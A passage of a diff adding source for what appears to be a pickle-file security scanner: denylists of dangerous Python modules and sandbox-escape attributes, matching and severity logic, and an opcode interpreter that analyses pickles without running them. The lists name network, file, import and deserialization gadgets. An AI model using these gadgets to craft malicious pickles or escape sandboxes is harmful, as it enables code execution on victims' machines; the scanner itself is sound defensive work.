+    "jinja2",
+    "torch._inductor",
+    "torch.jit",
+    "torch.package",
+    "torch.utils.cpp_extension",
+    "torch._dynamo",
+    "torch.fx.experimental.symbolic_shapes",
+    "torch.compile",
+    "torch._C._jit_script_compile",
+    "torch.testing._internal",
+    "keras.layers.Lambda",
+    "tensorflow.keras.layers.Lambda",
+    "tf_keras.layers.Lambda",
+    "tensorflow.python.ops.script_ops",
+    "tensorflow.io",
+    "tensorflow.compat.v1.py_func",
+    "tensorflow.py_function",
+    "tensorflow.numpy_function",
+    "dill._dill._create_function",
+    "dill._dill._create_code",
+    "dill._dill._load_type",
+    "dill.source",
+    "cloudpickle.cloudpickle._make_function",
+    "cloudpickle.cloudpickle._builtin_type",
+    "cloudpickle.cloudpickle_fast",
+    "sympy.parsing",
+    "sympy.sympify",
+    "pandas.eval",
+    "pandas.core.computation",
+    "numexpr"
+  ]),
+  ...group(ATTR, [
+    "builtins.getattr",
+    "builtins.setattr",
+    "builtins.delattr",
+    "builtins.globals",
+    "builtins.locals",
+    "builtins.vars",
+    "builtins.__builtins__",
+    "builtins.__loader__",
+    "operator.attrgetter",
+    "operator.methodcaller",
+    "operator.getitem",
+    "operator.setitem",
+    "operator.delitem",
+    "operator.call",
+    "_operator.attrgetter",
+    "_operator.methodcaller",
+    "_operator.getitem",
+    "functools.partial",
+    "functools.reduce",
+    "functools.partialmethod",
+    "functools.singledispatch",
+    "functools.update_wrapper",
+    "_functools",
+    "inspect",
+    "gc",
+    "sys",
+    "copyreg.add_extension",
+    "copyreg.constructor",
+    "copyreg.pickle",
+    "_thread",
+    "site"
+  ]),
+  ...group(IMPORT, [
+    "importlib",
+    "builtins.__import__",
+    "imp",
+    "pkgutil",
+    "zipimport",
+    "modulefinder",
+    "builtins.__build_class__",
+    "_imp",
+    "_frozen_importlib",
+    "_frozen_importlib_external"
+  ]),
+  ...group(LOADS, [
+    "pickle",
+    "_pickle",
+    "cPickle",
+    "pickletools",
+    "dill",
+    "cloudpickle",
+    "jsonpickle",
+    "shelve",
+    // joblib's array wrappers (NumpyArrayWrapper, NDArrayWrapper) are plain data; its loaders and workers are not.
+    "joblib.load",
+    "joblib.numpy_pickle.load",
+    "joblib.numpy_pickle._unpickle",
+    "joblib.numpy_pickle.NumpyUnpickler",
+    "joblib.numpy_pickle_compat.load_compatibility",
+    "joblib.memory",
+    "joblib.Memory",
+    "joblib.parallel",
+    "joblib.Parallel",
+    "joblib.delayed",
+    "joblib._parallel_backends",
+    "joblib.pool",
+    "joblib._store_backends",
+    "joblib.externals",
+    "joblib.func_inspect",
+    "joblib.hashing",
+    "dbm",
+    "torch.load",
+    "torch.serialization",
+    "torch.storage._load_from_bytes",
+    "torch._weights_only_unpickler",
+    "torch.hub",
+    "torch.utils.model_zoo",
+    "torch.distributed.rpc",
+    "torch.multiprocessing",
+    "numpy.load",
+    "numpy.lib.npyio",
+    "numpy.lib.format.read_array",
+    "numpy.loads",
+    "numpy.core.numeric.loads",
+    "numpy.ma.core.loads",
+    "pandas.read_pickle",
+    "pandas.io.pickle",
+    "pandas.compat.pickle_compat",
+    "yaml.load",
+    "yaml.load_all",
+    "yaml.unsafe_load",
+    "yaml.unsafe_load_all",
+    "yaml.full_load",
+    "yaml.full_load_all",
+    "yaml.UnsafeLoader",
+    "yaml.Loader",
+    "yaml.FullLoader",
+    "ruamel.yaml",
+    "xmlrpc",
+    "xmlrpclib",
+    "sklearn.externals.joblib",
+    "keras.models.load_model",
+    "keras.saving",
+    "tensorflow.keras.models.load_model",
+    "skops.io.load",
+    "hydra.utils.instantiate"
+  ]),
+  ...group(NET, [
+    "socket",
+    "_socket",
+    "socketserver",
+    "ssl",
+    "requests",
+    "httpx",
+    "aiohttp",
+    "urllib3",
+    "urllib.request",
+    "urllib2",
+    "urllib.urlopen",
+    "urllib.urlretrieve",
+    "httplib",
+    "http.client",
+    "http.server",
+    "ftplib",
+    "smtplib",
+    "poplib",
+    "imaplib",
+    "nntplib",
+    "telnetlib",
+    "webbrowser",
+    "asyncio.open_connection",
+    "asyncio.start_server",
+    "asyncio.streams",
+    "wsgiref"
+  ]),
+  ...group(FILE, [
+    "builtins.open",
+    "builtins.file",
+    "io.open",
+    "io.open_code",
+    "io.FileIO",
+    "io.TextIOWrapper",
+    "io.BufferedReader",
+    "io.BufferedWriter",
+    "io.BufferedRandom",
+    "_io",
+    "codecs.open",
+    "codecs.StreamReaderWriter",
+    "shutil",
+    "tempfile",
+    "fileinput",
+    "zipfile",
+    "tarfile",
+    "gzip.open",
+    "bz2.open",
+    "lzma.open",
+    "mmap",
+    "fcntl",
+    "numpy.save",
+    "numpy.savetxt",
+    "numpy.fromfile",
+    "numpy.memmap",
+    "numpy.ndarray.tofile",
+    "torch.save",
+    "logging.FileHandler",
+    "logging.config"
+  ]),
+  ...group(DEBUG, [
+    "pdb",
+    "bdb",
+    "trace",
+    "cProfile",
+    "profile",
+    "pstats",
+    "tracemalloc",
+    "faulthandler",
+    "rlcompleter",
+    "readline",
+    "cmd",
+    "atexit"
+  ]),
+  ...group(NATIVE, [
+    "ctypes",
+    "_ctypes",
+    "cffi",
+    "numpy.ctypeslib",
+    "torch.ops.load_library",
+    "torch.classes.load_library",
+    "torch.library",
+    "torch.cuda._utils",
+    "resource"
+  ]),
+  ...group(INSTALL, [
+    "pip",
+    "setuptools",
+    "distutils",
+    "ensurepip",
+    "venv",
+    "virtualenv",
+    "pkg_resources",
+    "conda"
+  ]),
+  ...group(PROC, [
+    "multiprocessing",
+    "_multiprocessing",
+    "concurrent.futures",
+    "threading",
+    "signal",
+    "_signal",
+    "asyncio.run",
+    "asyncio.get_event_loop",
+    "sched"
+  ])
+];
+var DANGEROUS_ATTRIBUTES = /* @__PURE__ */ new Set([
+  "__globals__",
+  "__builtins__",
+  "__subclasses__",
+  "__code__",
+  "__closure__",
+  "__func__",
+  "__self__",
+  "__getattribute__",
+  "__getattr__",
+  "__setattr__",
+  "__delattr__",
+  "__import__",
+  "__loader__",
+  "__spec__",
+  "__reduce__",
+  "__reduce_ex__",
+  "__class__",
+  "__base__",
+  "__bases__",
+  "__mro__",
+  "__dict__",
+  "__init_subclass__",
+  "__call__",
+  "f_globals",
+  "f_locals",
+  "f_builtins",
+  "gi_frame",
+  "tb_frame",
+  "co_code"
+]);
+var MODULE_ATTRIBUTES = /* @__PURE__ */ new Set([
+  "os",
+  "posix",
+  "nt",
+  "subprocess",
+  "sys",
+  "builtins",
+  "importlib",
+  "ctypes",
+  "pickle",
+  "_pickle",
+  "marshal",
+  "shutil",
+  "socket",
+  "pty",
+  "runpy",
+  "multiprocessing"
+]);
+var BUILTINS_ALIASES = /* @__PURE__ */ new Set(["builtins", "__builtin__", "__builtins__"]);
+
+// src/artifacts/pickle/names.ts
+var MAX_PARTS = 32;
+function normalizeGlobal(module2, name2, protocol) {
+  let m = module2;
+  let n = name2;
+  if (protocol < 3) {
+    const mapped = NAME_MAPPING.get(`${m}\0${n}`);
+    if (mapped !== void 0) {
+      m = mapped[0];
+      n = mapped[1];
+    } else {
+      m = IMPORT_MAPPING.get(m) ?? m;
+    }
+  }
+  if (BUILTINS_ALIASES.has(m)) m = "builtins";
+  return { module: m, name: n, qualified: `${m}.${n}` };
+}
+var DENY_REASONS = new Map(DENYLIST.map((e) => [e.name, e.reason]));
+function lookupChain(parts2, from, to) {
+  let chain = BUILTINS_ALIASES.has(parts2[from]) ? "builtins" : parts2[from];
+  for (let i2 = from; i2 <= to; i2++) {
+    if (i2 > from) chain += "." + parts2[i2];
+    const reason2 = DENY_REASONS.get(chain);
+    if (reason2 !== void 0) return { entry: chain, reason: reason2 };
+  }
+  return void 0;
+}
+function matchDenylist(module2, name2) {
+  const moduleParts = module2.split(".");
+  const nameParts = name2.split(".");
+  const parts2 = moduleParts.concat(nameParts).slice(0, MAX_PARTS);
+  const fromRoot = lookupChain(parts2, 0, parts2.length - 1);
+  if (fromRoot !== void 0) return fromRoot;
+  const firstNamePart = moduleParts.length;
+  for (let j = firstNamePart; j < parts2.length; j++) {
+    if (DANGEROUS_ATTRIBUTES.has(parts2[j])) {
+      return { entry: parts2[j], reason: "traverses interpreter internals (sandbox-escape gadget)" };
+    }
+  }
+  for (let j = firstNamePart; j < parts2.length - 1; j++) {
+    const inner = lookupChain(parts2, j, parts2.length - 1);
+    if (inner !== void 0) return inner;
+  }
+  const last = parts2[parts2.length - 1];
+  if (parts2.length > firstNamePart && MODULE_ATTRIBUTES.has(last)) {
+    return lookupChain(parts2, parts2.length - 1, parts2.length - 1) ?? { entry: last, reason: "reaches a dangerous module" };
+  }
+  return void 0;
+}
+var GlobalSet = class {
+  exact = /* @__PURE__ */ new Set();
+  prefixes = [];
+  constructor(entries) {
+    for (const e of entries) {
+      if (e.endsWith(".*")) this.prefixes.push(e.slice(0, -1));
+      else this.exact.add(e);
+    }
+  }
+  has(qualified) {
+    if (this.exact.has(qualified)) return true;
+    for (const p of this.prefixes) if (qualified.startsWith(p)) return true;
+    return false;
+  }
+};
+
+// src/artifacts/pickle/policy.ts
+var SEVERITY_RANK = { critical: 4, high: 3, medium: 2, low: 1 };
+var MAX_ISSUES = 1e3;
+var CLASS_ARG_HELPERS = ALLOWED_ONLY_WITH_SAFE_CLASS_ARGS;
+var allowCache = /* @__PURE__ */ new WeakMap();
+function allowSet(extra) {
+  let set = allowCache.get(extra);
+  if (set === void 0) {
+    set = new GlobalSet([...ALLOWLIST, ...extra]);
+    allowCache.set(extra, set);
+  }
+  return set;
+}
+function maxSeverity(issues) {
+  let best;
+  for (const i2 of issues) if (best === void 0 || SEVERITY_RANK[i2.severity] > SEVERITY_RANK[best]) best = i2.severity;
+  return best;
+}
+function judge(trace, options) {
+  const a = trace.analysis;
+  const issues = [];
+  const add = (issue) => {
+    if (issues.length < MAX_ISSUES) issues.push(issue);
+  };
+  const allowlist = options.policy === "allowlist" ? allowSet(options.allowGlobals) : void 0;
+  const deny = [];
+  const reportedUnknown = /* @__PURE__ */ new Set();
+  for (let i2 = 0; i2 < a.imports.length; i2++) {
+    const imp = a.imports[i2];
+    deny.push(void 0);
+    if (imp.dynamic) {
+      add({
+        kind: "dynamic-global",
+        severity: "critical",
+        message: `STACK_GLOBAL with non-constant operands (${imp.module}, ${imp.name}): the imported name is computed at load time`,
+        offset: imp.offset
+      });
+      continue;
+    }
+    if (imp.opcode.startsWith("EXT")) {
+      add({
+        kind: "extension-code",
+        severity: "critical",
+        message: `${imp.opcode} ${imp.name} imports whatever the copyreg extension registry maps that code to`,
+        offset: imp.offset
+      });
+      continue;
+    }
+    const [module2, name2] = trace.importNormalized[i2];
+    const match = matchDenylist(imp.module, imp.name) ?? matchDenylist(module2, name2);
+    deny[i2] = match;
+    if (match !== void 0) {
+      const used = trace.importUsedAt[i2] >= 0 || trace.argScanExhausted;
+      if (!used) {
+        add({
+          kind: "dangerous-import",
+          severity: "high",
+          message: `Imports ${imp.normalized} (${match.reason}) via ${imp.opcode}`,
+          global: imp.normalized,
+          offset: imp.offset
+        });
+      } else if (trace.importCalledAt[i2] < 0) {
+        add({
+          kind: "dangerous-call",
+          severity: "critical",
+          message: `Passes ${imp.normalized} (${match.reason}) into a call that may invoke it`,
+          global: imp.normalized,
+          offset: trace.importUsedAt[i2] >= 0 ? trace.importUsedAt[i2] : imp.offset
+        });
+      }
+    } else if (allowlist !== void 0 && !allowlist.has(imp.normalized) && !reportedUnknown.has(imp.normalized)) {
+      reportedUnknown.add(imp.normalized);
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `Imports ${imp.normalized}, which is not on the allowlist`,
+        global: imp.normalized,
+        offset: imp.offset
+      });
+    }
+  }
+  for (let c = 0; c < a.calls.length; c++) {
+    const call = a.calls[c];
+    if (call.opcode === "BUILD") continue;
+    const imp = trace.callCallee[c];
+    const match = imp >= 0 ? deny[imp] : void 0;
+    if (match !== void 0) {
+      add({
+        kind: "dangerous-call",
+        severity: "critical",
+        message: `Calls ${call.callee}(${call.args}) via ${call.opcode}: ${match.reason}`,
+        global: call.callee,
+        offset: call.offset
+      });
+    } else if (allowlist !== void 0 && imp < 0) {
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `${call.opcode} calls a value that is not an allowlisted global`,
+        offset: call.offset
+      });
+    }
+  }
+  for (const m of trace.mutations) {
+    const imp = a.imports[m.imp];
+    add({
+      kind: "module-mutation",
+      severity: "critical",
+      message: `BUILD sets attributes on the module/class/function ${imp.normalized} itself`,
+      global: imp.normalized,
+      offset: m.offset
+    });
+  }
+  if (allowlist !== void 0) {
+    for (const u of trace.unsafeClassArgs) {
+      add({
+        kind: "unknown-global",
+        severity: "medium",
+        message: `${u.callee} is called with a class argument that is not a plain global`,
+        global: u.callee,
+        offset: u.offset
+      });
+    }
+  }
+  for (const n of a.nested) {
+    const severity = maxSeverity(n.analysis.issues);
+    if (severity !== void 0) {
+      add({
+        kind: "nested-pickle",
+        severity,
+        message: `A pickle embedded in a loads-like call argument is dangerous: ${n.analysis.issues[0].message}`,
+        global: n.analysis.issues[0].global,
+        offset: n.offset
+      });
+    }
+  }
+  if (trace.stoppedBy === "limit" && a.imports.length === 0) {
+    add({
+      kind: "uninspectable",
+      severity: "medium",
+      message: `Analysis stopped at a limit (${a.error?.message ?? "limit reached"}); the rest of the pickle was not inspected`,
+      offset: a.error?.offset
+    });
+  }
+  if (a.error !== void 0 && a.imports.length > 0) {
+    add({
+      kind: "malformed",
+      severity: "high",
+      message: `The pickle is malformed after referencing globals (${a.error.message}); loaders may still run what comes before the error`,
+      offset: a.error.offset
+    });
+  }
+  return issues;
+}
+
+// src/artifacts/pickle/opcodes.ts
+var OP = {
+  MARK: 40,
+  // (
+  STOP: 46,
+  // .
+  POP: 48,
+  // 0
+  POP_MARK: 49,
+  // 1
+  DUP: 50,
+  // 2
+  FLOAT: 70,
+  // F
+  INT: 73,
+  // I
+  BININT: 74,
+  // J
+  BININT1: 75,
+  // K
+  LONG: 76,
+  // L
+  BININT2: 77,
+  // M
+  NONE: 78,
+  // N
+  PERSID: 80,
+  // P
+  BINPERSID: 81,
+  // Q
+  REDUCE: 82,
+  // R
+  STRING: 83,
+  // S
+  BINSTRING: 84,
+  // T
+  SHORT_BINSTRING: 85,
+  // U
+  UNICODE: 86,
+  // V
+  BINUNICODE: 88,
+  // X
+  APPEND: 97,
+  // a
+  BUILD: 98,
+  // b
+  GLOBAL: 99,
+  // c
+  DICT: 100,
+  // d
+  EMPTY_DICT: 125,
+  // }
+  APPENDS: 101,
+  // e
+  GET: 103,
+  // g
+  BINGET: 104,
+  // h
+  INST: 105,
+  // i
+  LONG_BINGET: 106,
+  // j
+  LIST: 108,
+  // l
+  EMPTY_LIST: 93,
+  // ]
+  OBJ: 111,
+  // o
+  PUT: 112,
+  // p
+  BINPUT: 113,
+  // q
+  LONG_BINPUT: 114,
+  // r
+  SETITEM: 115,
+  // s
+  TUPLE: 116,
+  // t
+  EMPTY_TUPLE: 41,
+  // )
+  SETITEMS: 117,
+  // u
+  BINFLOAT: 71,
+  // G
+  // protocol 2
+  PROTO: 128,
+  NEWOBJ: 129,
+  EXT1: 130,
+  EXT2: 131,
+  EXT4: 132,
+  TUPLE1: 133,
+  TUPLE2: 134,
+  TUPLE3: 135,
+  NEWTRUE: 136,
+  NEWFALSE: 137,
+  LONG1: 138,
+  LONG4: 139,
+  // protocol 3
+  BINBYTES: 66,
+  // B
+  SHORT_BINBYTES: 67,
+  // C
+  // protocol 4
+  SHORT_BINUNICODE: 140,
+  BINUNICODE8: 141,
+  BINBYTES8: 142,
+  EMPTY_SET: 143,
+  ADDITEMS: 144,
+  FROZENSET: 145,
+  NEWOBJ_EX: 146,
+  STACK_GLOBAL: 147,
+  MEMOIZE: 148,
+  FRAME: 149,
+  // protocol 5
+  BYTEARRAY8: 150,
+  NEXT_BUFFER: 151,
+  READONLY_BUFFER: 152
+};
+var OPCODE_NAMES = (() => {
+  const names = new Array(256).fill(void 0);
+  for (const [name2, code3] of Object.entries(OP)) names[code3] = name2;
+  return names;
+})();
+var HIGHEST_PROTOCOL = 5;
+
+// src/artifacts/pickle/decode.ts
+function latin12(bytes) {
+  let out2 = "";
+  const CHUNK = 8192;
+  for (let i2 = 0; i2 < bytes.length; i2 += CHUNK) {
+    out2 += String.fromCharCode.apply(null, bytes.subarray(i2, i2 + CHUNK));
+  }
+  return out2;
+}
+function digitValue(c) {
+  if (c >= 48 && c <= 57) return c - 48;
+  if (c >= 97 && c <= 122) return c - 87;
+  if (c >= 65 && c <= 90) return c - 55;
+  return 99;
+}
+function isSpace(c) {
+  return c === 32 || c >= 9 && c <= 13;
+}
+function parsePythonInt(text) {
+  let i2 = 0;
+  let end = text.length;
+  while (i2 < end && isSpace(text.charCodeAt(i2))) i2++;
+  while (end > i2 && isSpace(text.charCodeAt(end - 1))) end--;
+  let negative = false;
+  const sign = text.charCodeAt(i2);
+  if (sign === 43 || sign === 45) {
+    negative = sign === 45;
+    i2++;
+  }
+  let base = 10;
+  if (end - i2 > 2 && text.charCodeAt(i2) === 48) {
+    const p = text.charCodeAt(i2 + 1) | 32;
+    if (p === 120) base = 16;
+    else if (p === 111) base = 8;
+    else if (p === 98) base = 2;
+    if (base !== 10) {
+      i2 += 2;
+      if (text.charCodeAt(i2) === 95) i2++;
+    }
+  }
+  if (i2 >= end) return null;
+  let small = 0;
+  let big = null;
+  let prevUnderscore = true;
+  for (; i2 < end; i2++) {
+    const c = text.charCodeAt(i2);
+    if (c === 95) {
+      if (prevUnderscore) return null;
+      prevUnderscore = true;
+      continue;
+    }
+    const d = digitValue(c);
+    if (d >= base) return null;
+    prevUnderscore = false;
+    if (big === null) {
+      small = small * base + d;
+      if (small > Number.MAX_SAFE_INTEGER / 64) big = BigInt(small);
+    } else {
+      big = big * BigInt(base) + BigInt(d);
+    }
+  }
+  if (prevUnderscore) return null;
+  if (big === null) return negative ? -small : small;
+  const v = negative ? -big : big;
+  const n = Number(v);
+  return Number.isSafeInteger(n) ? n : v;
+}
+function parsePythonFloat(text) {
+  const t = text.trim().replace(/_/g, "").toLowerCase();
+  const body2 = t.startsWith("-") || t.startsWith("+") ? t.slice(1) : t;
+  const negative = t.startsWith("-");
+  if (body2 === "inf" || body2 === "infinity") return negative ? -Infinity : Infinity;
+  if (body2 === "nan") return NaN;
+  if (!/^(\d+\.?\d*|\.\d+)(e[+-]?\d+)?$/.test(body2)) return null;
+  const v = Number(body2);
+  return negative ? -v : v;
+}
+var SIMPLE_ESCAPES2 = {
+  92: 92,
+  39: 39,
+  34: 34,
+  97: 7,
+  98: 8,
+  102: 12,
+  110: 10,
+  114: 13,
+  116: 9,
+  118: 11
+};
+function decodeEscapedString(src) {
+  const out2 = new Uint8Array(src.length);
+  let n = 0;
+  for (let i2 = 0; i2 < src.length; i2++) {
+    const c = src[i2];
+    if (c !== 92) {
+      out2[n++] = c;
+      continue;
+    }
+    if (i2 + 1 >= src.length) return null;
+    const e = src[++i2];
+    const simple = SIMPLE_ESCAPES2[e];
+    if (simple !== void 0) {
+      out2[n++] = simple;
+    } else if (e === 10) {
+    } else if (e === 120) {
+      const hi = i2 + 1 < src.length ? digitValue(src[i2 + 1]) : 99;
+      const lo = i2 + 2 < src.length ? digitValue(src[i2 + 2]) : 99;
+      if (hi > 15 || lo > 15) return null;
+      out2[n++] = hi * 16 + lo;
+      i2 += 2;
+    } else if (e >= 48 && e <= 55) {
+      let v = e - 48;
+      for (let k = 0; k < 2 && i2 + 1 < src.length && src[i2 + 1] >= 48 && src[i2 + 1] <= 55; k++) {
+        v = v * 8 + (src[++i2] - 48);
+      }
+      out2[n++] = v & 255;
+    } else {
+      out2[n++] = 92;
+      out2[n++] = e;
+    }
+  }
+  return out2.subarray(0, n);
+}
+function decodeRawUnicodeEscape(src) {
+  let out2 = "";
+  let runStart = 0;
+  for (let i2 = 0; i2 < src.length; i2++) {
+    if (src[i2] !== 92 || i2 + 1 >= src.length) continue;
+    const kind = src[i2 + 1];
+    if (kind !== 117 && kind !== 85) continue;
+    let slashes = 0;
+    for (let j = i2; j >= runStart && src[j] === 92; j--) slashes++;
+    if (slashes % 2 === 0) continue;
+    const width = kind === 117 ? 4 : 8;
+    let cp = 0;
+    for (let k = 0; k < width; k++) {
+      const d = i2 + 2 + k < src.length ? digitValue(src[i2 + 2 + k]) : 99;
+      if (d > 15) return null;
+      cp = cp * 16 + d;
+    }
+    if (cp > 1114111) return null;
+    out2 += latin12(src.subarray(runStart, i2)) + String.fromCodePoint(cp);
+    i2 += 1 + width;
+    runStart = i2 + 1;
+  }
+  return out2 + latin12(src.subarray(runStart));
+}
+
+// src/artifacts/pickle/render.ts
+var MAX_DEPTH = 5;
+var MAX_ITEMS = 10;
+var MAX_TEXT = 60;
+var BUDGET = 400;
+function renderValue(v, names, budget = BUDGET) {
+  return render(v, names, 0, { left: budget });
+}
+function renderArgs(v, names) {
+  const b = { left: BUDGET };
+  if (v.k === "tuple") return renderItems(v.items, names, 0, b);
+  return "*" + render(v, names, 0, b);
+}
+function renderKwargs(v, names) {
+  const b = { left: BUDGET };
+  if (v.k !== "dict") return "**" + render(v, names, 0, b);
+  const parts2 = [];
+  for (let i2 = 0; i2 + 1 < v.items.length; i2 += 2) {
+    const key = v.items[i2];
+    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
+      parts2.push("...");
+      break;
+    }
+    const value = render(v.items[i2 + 1], names, 1, b);
+    parts2.push(key.k === "str" && isIdentifier(key.v) ? `${key.v}=${value}` : `**{${render(key, names, 1, b)}: ${value}}`);
+  }
+  return parts2.join(", ");
+}
+function render(v, names, depth, b) {
+  const out2 = renderRaw(v, names, depth, b);
+  b.left -= out2.length;
+  return out2;
+}
+function renderRaw(v, names, depth, b) {
+  switch (v.k) {
+    case "none":
+      return "None";
+    case "bool":
+      return v.v ? "True" : "False";
+    case "int":
+      return String(v.v);
+    case "hugeint":
+      return `int(<${v.digits} digits>)`;
+    case "float":
+      return pyFloat(v.v);
+    case "str":
+      return pyStr(v.v);
+    case "bytes":
+      return v.bytearray ? `bytearray(${pyBytes(v.v)})` : pyBytes(v.v);
+    case "global":
+      return names.importExpr(v.imp);
+    case "call":
+      return `_var${v.call}`;
+    case "persid":
+      return names.persidExpr(v.index);
+    case "buffer":
+      return v.readonly ? "memoryview(next_buffer()).toreadonly()" : "next_buffer()";
+    case "unknown":
+      return `<${v.what}>`;
+    default:
+      break;
+  }
+  if (depth >= MAX_DEPTH || b.left <= 0) return "...";
+  const items = renderItems(v.items, names, depth + 1, b, v.k === "dict");
+  switch (v.k) {
+    case "list":
+      return `[${items}]`;
+    case "tuple":
+      return v.items.length === 1 ? `(${items},)` : `(${items})`;
+    case "set":
+      return v.items.length === 0 ? "set()" : `{${items}}`;
+    case "frozenset":
+      return v.items.length === 0 ? "frozenset()" : `frozenset({${items}})`;
+    case "dict":
+      return `{${items}}`;
+  }
+}
+function renderItems(items, names, depth, b, pairs = false) {
+  const parts2 = [];
+  const step = pairs ? 2 : 1;
+  for (let i2 = 0; i2 < items.length; i2 += step) {
+    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
+      parts2.push("...");
+      break;
+    }
+    if (pairs) {
+      const key = render(items[i2], names, depth, b);
+      const value = i2 + 1 < items.length ? render(items[i2 + 1], names, depth, b) : "<missing>";
+      parts2.push(`${key}: ${value}`);
+    } else {
+      parts2.push(render(items[i2], names, depth, b));
+    }
+  }
+  return parts2.join(", ");
+}
+function isIdentifier(s) {
+  if (s.length === 0 || s.length > 100) return false;
+  for (let i2 = 0; i2 < s.length; i2++) {
+    const c = s.charCodeAt(i2);
+    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
+    if (!letter && !(i2 > 0 && c >= 48 && c <= 57)) return false;
+  }
+  return true;
+}
+function pyFloat(x) {
+  if (Number.isNaN(x)) return "float('nan')";
+  if (!Number.isFinite(x)) return x > 0 ? "float('inf')" : "float('-inf')";
+  const s = String(x);
+  return /[.e]/.test(s) ? s : `${s}.0`;
+}
+function hex2(c) {
+  return c.toString(16).padStart(2, "0");
+}
+function pyStr(s) {
+  let out2 = "'";
+  const n = Math.min(s.length, MAX_TEXT);
+  for (let i2 = 0; i2 < n; i2++) {
+    const c = s.charCodeAt(i2);
+    if (c === 39) out2 += "\\'";
+    else if (c === 92) out2 += "\\\\";
+    else if (c === 10) out2 += "\\n";
+    else if (c === 13) out2 += "\\r";
+    else if (c === 9) out2 += "\\t";
+    else if (c < 32 || c >= 127 && c < 160) out2 += "\\x" + hex2(c);
+    else out2 += s[i2];
+  }
+  out2 += "'";
+  return s.length > MAX_TEXT ? `${out2}...<${s.length} chars>` : out2;
+}
+function pyBytes(bytes) {
+  let out2 = "b'";
+  const n = Math.min(bytes.length, MAX_TEXT);
+  for (let i2 = 0; i2 < n; i2++) {
+    const c = bytes[i2];
+    if (c === 39) out2 += "\\'";
+    else if (c === 92) out2 += "\\\\";
+    else if (c === 10) out2 += "\\n";
+    else if (c === 13) out2 += "\\r";
+    else if (c === 9) out2 += "\\t";
+    else if (c < 32 || c >= 127) out2 += "\\x" + hex2(c);
+    else out2 += String.fromCharCode(c);
+  }
+  out2 += "'";
+  return bytes.length > MAX_TEXT ? `${out2}...<${bytes.length} bytes>` : out2;
+}
+
+// src/artifacts/pickle/values.ts
+var NONE = { k: "none" };
+var TRUE = { k: "bool", v: true };
+var FALSE = { k: "bool", v: false };
+function isContainer(v) {
+  return v.k === "list" || v.k === "tuple" || v.k === "set" || v.k === "frozenset" || v.k === "dict";
+}
+
+// src/artifacts/pickle/vm.ts
+var PickleError = class extends Error {
+  constructor(message15, offset, kind = "invalid") {
+    super(message15);
+    this.offset = offset;
+    this.kind = kind;
+  }
+  offset;
+  kind;
+  get limit() {
+    return this.kind === "limit";
+  }
+};
+var utf8Strict = new TextDecoder("utf-8", { fatal: true });
+var utf8Lenient = new TextDecoder("utf-8");
+var MAX_EXACT_LONG_BYTES = 64;
+var MAX_EXACT_LONG_DIGITS = 400;
+var ARG_SCAN_PER_CALL = 2e4;
+var ARG_SCAN_TOTAL = 2e6;
+var MAX_STATEMENTS = 1e4;
+var DENSE_MEMO_LIMIT = 1 << 16;
+var BASE64_DECODERS = /* @__PURE__ */ new Set([
+  "base64.b64decode",
+  "base64.standard_b64decode",
+  "base64.urlsafe_b64decode",
+  "base64.decodebytes",
+  "base64.decodestring",
+  "binascii.a2b_base64"
+]);
+var BYTES_WRAPPERS = /* @__PURE__ */ new Set(["io.BytesIO", "_io.BytesIO", "builtins.bytes", "builtins.bytearray"]);
+function runMachine(bytes, options) {
+  return new Machine(bytes, options).run();
+}
+var Machine = class {
+  constructor(bytes, o) {
+    this.bytes = bytes;
+    this.o = o;
+    this.view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+    this.a = {
+      isPickle: false,
+      protocol: null,
+      streams: 0,
+      opcodeCount: 0,
+      bytesConsumed: 0,
+      imports: [],
+      calls: [],
+      persistentIds: [],
+      issues: [],
+      nested: [],
+      statements: this.statements
+    };
+    this.t = {
+      analysis: this.a,
+      importUsedAt: [],
+      importCalledAt: [],
+      importNormalized: [],
+      callCallee: [],
+      mutations: [],
+      unsafeClassArgs: [],
+      argScanExhausted: false,
+      stoppedBy: void 0
+    };
+  }
+  bytes;
+  o;
+  view;
+  pos = 0;
+  opStart = 0;
+  proto = 0;
+  stack = [];
+  /** Stack lengths at each MARK; items below the top mark are fenced off, as in CPython. */
+  marks = [];
+  /** The memo: small indices (the normal case) in an array, the rest in a map. */
+  memoDense = [];
+  memoSparse = /* @__PURE__ */ new Map();
+  memoSize = 0;
+  frameEnd = -1;
+  frameProblem;
+  argScanLeft = ARG_SCAN_TOTAL;
+  importExprs = [];
+  importBindings = /* @__PURE__ */ new Map();
+  usedBindings = /* @__PURE__ */ new Set();
+  persidExprs = [];
+  callArgs = [];
+  a;
+  t;
+  statements = [];
+  run() {
+    const a = this.a;
+    while (this.pos < this.bytes.length) {
+      const checkpoint = this.checkpoint();
+      this.resetStream();
+      try {
+        this.runStream();
+        a.streams++;
+        a.bytesConsumed = this.pos;
+        a.isPickle = true;
+      } catch (e) {
+        if (!(e instanceof PickleError)) throw e;
+        const sawCode = this.sawCodeSince(checkpoint.imports, checkpoint.calls);
+        if (a.streams === 0) {
+          this.t.stoppedBy = e.kind;
+          if (sawCode || a.protocol !== null) a.isPickle = true;
+          if (a.isPickle) this.fail(e);
+        } else if (sawCode || e.limit) {
+          this.fail(e);
+        } else {
+          this.rollback(checkpoint);
+        }
+        break;
+      }
+    }
+    if (!a.isPickle) return this.notAPickle();
+    if (a.error === void 0 && this.frameProblem !== void 0) a.error = this.frameProblem;
+    return this.t;
+  }
+  /**
+   * Whether a failed stream referenced code. Text that happens to start with `c` or `i` reads as a
+   * GLOBAL/INST of a nonsense name; only names that could be Python modules count.
+   */
+  sawCodeSince(imports, calls) {
+    if (this.a.calls.length > calls) return true;
+    for (let i2 = imports; i2 < this.a.imports.length; i2++) {
+      const imp = this.a.imports[i2];
+      if (imp.dynamic || imp.opcode.startsWith("EXT") || isDottedName(imp.module) && isDottedName(imp.name)) return true;
+    }
+    return false;
+  }
+  frameIssue(message15) {
+    if (this.frameProblem === void 0) this.frameProblem = { message: message15, offset: this.opStart };
+  }
+  fail(e) {
+    this.a.error = { message: e.message, offset: e.offset };
+    this.t.stoppedBy = e.kind;
+  }
+  notAPickle() {
+    const a = this.a;
+    a.imports.length = 0;
+    a.calls.length = 0;
+    a.persistentIds.length = 0;
+    a.nested.length = 0;
+    this.statements.length = 0;
+    a.protocol = null;
+    a.bytesConsumed = 0;
+    this.t.importUsedAt.length = 0;
+    this.t.importCalledAt.length = 0;
+    this.t.importNormalized.length = 0;
